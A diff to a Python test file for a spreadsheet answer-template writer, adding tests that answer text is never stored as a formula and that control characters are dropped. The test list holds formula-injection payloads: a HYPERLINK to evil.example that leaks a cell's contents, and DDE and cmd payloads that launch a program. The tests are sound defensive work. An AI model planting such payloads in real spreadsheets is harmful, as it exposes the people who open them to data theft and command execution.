@@ -111,3 +111,31 @@ def test_a_workbook_saved_by_libreoffice_is_accepted(tmp_path):
     assert read_answers(saved, bank) == FILLED
     workbook = load_workbook(saved)
     assert workbook["Answers"].protection.sheet
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0",
+            '=DDE("cmd";"/C calc";"x")', "+1+1", "-2+3", "@SUM(A1)"]
+
+
+def test_answer_text_is_written_as_text_never_as_a_formula(tmp_path):
+    import zipfile
+
+    bank = small_bank()
+    hostile = [Answer("4.1-context", 2, 2, evidence=FORMULAS[0], notes=FORMULAS[1],
+                      owner=FORMULAS[3]),
+               Answer("4.2-parties", 1, 1, evidence=FORMULAS[2], notes=FORMULAS[4],
+                      owner=FORMULAS[5])]
+    path = write_template(bank, tmp_path / "answers.xlsx", answers=hostile)
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist()
+                  if name.startswith("xl/worksheets/")]
+    assert not any("<f>" in xml or "<f " in xml for xml in sheets)
+    assert read_answers(path, bank) == hostile  # the text comes back exactly
+
+
+def test_characters_a_workbook_cannot_hold_are_dropped_not_a_failure(tmp_path):
+    bank = small_bank()
+    answer = Answer("4.1-context", 2, 2, evidence="bell\x07 and\x01 null\x00 end")
+    path = write_template(bank, tmp_path / "answers.xlsx", answers=[answer])
+    sheet = load_workbook(path)["Answers"]
+    assert sheet.cell(row=2, column=_column("evidence")).value == "bell and null end"
